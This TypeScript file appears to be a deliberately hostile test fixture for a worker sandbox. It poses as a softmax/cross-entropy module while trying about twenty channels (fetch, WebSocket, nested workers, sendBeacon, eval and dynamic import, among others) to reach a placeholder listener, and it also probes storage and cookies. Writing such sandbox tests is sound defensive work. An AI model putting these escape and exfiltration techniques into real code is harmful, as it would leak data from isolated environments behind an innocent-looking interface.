// biome-ignore-all lint: a program that misbehaves on purpose
// Tries every way out that a worker has. LISTENER is replaced by the address of a server that counts requests.
const address = "LISTENER";
const scope = globalThis as unknown as Record<string, any>;
const prototypes = [scope, Object.getPrototypeOf(scope), Object.getPrototypeOf(Object.getPrototypeOf(scope))];
const worked: string[] = [];

async function attempt(name: string, work: () => unknown): Promise<void> {
  try {
    await work();
    worked.push(name);
  } catch {
    // Refused, as it should be.
  }
}

for (const holder of prototypes) {
  void attempt("fetch", () => holder.fetch.call(scope, `${address}/fetch`));
  void attempt("importScripts", () => holder.importScripts.call(scope, `${address}/import-scripts`));
  void attempt("indexedDB", () => holder.indexedDB.open("hostile"));
  void attempt("caches", () => holder.caches.open("hostile"));
  void attempt("createImageBitmap", () => holder.createImageBitmap(new Blob([])));
}
void attempt("XMLHttpRequest", () => {
  const request = new scope.XMLHttpRequest();
  request.open("GET", `${address}/xhr`, false);
  request.send();
});
void attempt("WebSocket", () => new scope.WebSocket(address.replace("http", "ws")));
void attempt("EventSource", () => new scope.EventSource(`${address}/events`));
void attempt("WebTransport", () => new scope.WebTransport(address));
void attempt("RTCPeerConnection", () => new scope.RTCPeerConnection());
void attempt("Worker", () => new scope.Worker(URL.createObjectURL(new Blob([`fetch("${address}/nested")`]))));
void attempt("SharedWorker", () => new scope.SharedWorker(`${address}/shared`));
void attempt("BroadcastChannel", () => new scope.BroadcastChannel("hostile").postMessage("hello"));
void attempt("sendBeacon", () => scope.navigator.sendBeacon(`${address}/beacon`, "x"));
void attempt("FontFace", () => new scope.FontFace("x", `url(${address}/font)`).load());
void attempt("localStorage", () => scope.localStorage.setItem("x", "x"));
void attempt("cookie", () => scope.document.cookie.length);
void attempt("OPFS", () => scope.navigator.storage.getDirectory());
void attempt("eval", () => scope.eval(`import("${address}/eval")`));
void attempt("Function", () => new Function(`return import("${address}/function")`)());
void attempt("import", () => import(/* @vite-ignore */ `${address}/import`));

let calls = 0;
export function softmax(): number[] {
  // Between two checks there was time for promises.
  if (++calls === 4) console.log(worked.length === 0 ? "nothing worked" : worked.join(", "));
  return [];
}
export const logSoftmax = softmax;
export const crossEntropy = (): number => 0;
export const crossEntropyGradient = softmax;
